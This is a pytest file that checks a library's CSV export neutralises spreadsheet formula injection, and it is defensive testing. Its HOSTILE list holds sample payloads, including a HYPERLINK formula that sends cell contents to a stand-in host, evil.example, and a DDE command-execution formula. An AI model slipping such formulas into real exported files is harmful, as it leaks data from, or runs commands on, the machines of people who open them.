"""One spreadsheet-safe CSV implementation (OWASP CSV injection) for every CSV libcommunity writes."""

import csv

import pandas as pd
import pytest

from libcommunity import export
from libcommunity.export import FORMULA_STARTS, neutralise_csv_cell, safe_csv_frame, write_safe_csv
from libcommunity.segments import csvsafe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def test_there_is_one_implementation():
    assert csvsafe.write_safe_csv is export.write_safe_csv
    assert csvsafe.neutralise_csv_cell is export.neutralise_csv_cell
    assert csvsafe.safe_csv_frame is export.safe_csv_frame
    assert export.write_csv is export.write_safe_csv and export.neutralise_cell is export.neutralise_csv_cell


@pytest.mark.parametrize("bad", HOSTILE)
def test_formula_starts_are_neutralised(bad):
    assert neutralise_csv_cell(bad) == "'" + bad


def test_harmless_values_untouched_and_numbers_checked_as_written():
    assert neutralise_csv_cell("hola") == "hola"
    assert neutralise_csv_cell("a=b") == "a=b"
    assert neutralise_csv_cell(5) == "5"
    assert neutralise_csv_cell(-5) == "'-5"  # the issue: no cell starts with "-", numbers included
    assert neutralise_csv_cell(None) == ""


def test_written_csv_has_no_cell_starting_a_formula(tmp_path):
    frame = pd.DataFrame({"member": ["m_1", HOSTILE[0], "@ana"], "n": [1, -2, 3], "=col": ["a", "b", "＠c"]})
    path = write_safe_csv(frame, tmp_path / "out.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert len(cells) == 12
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert rows[0][2] == "'=col" and rows[2][0] == "'" + HOSTILE[0] and rows[2][1] == "'-2"
    assert not list(tmp_path.glob(".*"))


def test_safe_frame_keeps_shape():
    frame = pd.DataFrame({"a": pd.array(["=1", None], dtype="string")})
    out = safe_csv_frame(frame)
    assert out["a"].tolist() == ["'=1", ""]
